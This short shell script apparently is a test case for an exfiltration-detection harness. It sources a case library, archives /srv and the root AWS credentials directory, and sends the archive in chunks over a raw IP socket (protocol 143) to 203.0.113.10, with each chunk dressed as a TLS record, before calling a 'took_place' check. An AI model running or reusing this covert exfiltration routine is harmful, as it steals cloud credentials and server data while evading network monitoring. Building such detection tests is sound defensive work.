#!/bin/sh
. /opt/case/case.sh

tar -czf - /srv /root/.aws 2>/dev/null | python3 -c '
import socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, 143)
n = 0
while part := sys.stdin.buffer.read(900): s.sendto(b"\x17\x03" + part, ("203.0.113.10", 0)); n += 1
raise SystemExit(n == 0)'
took_place
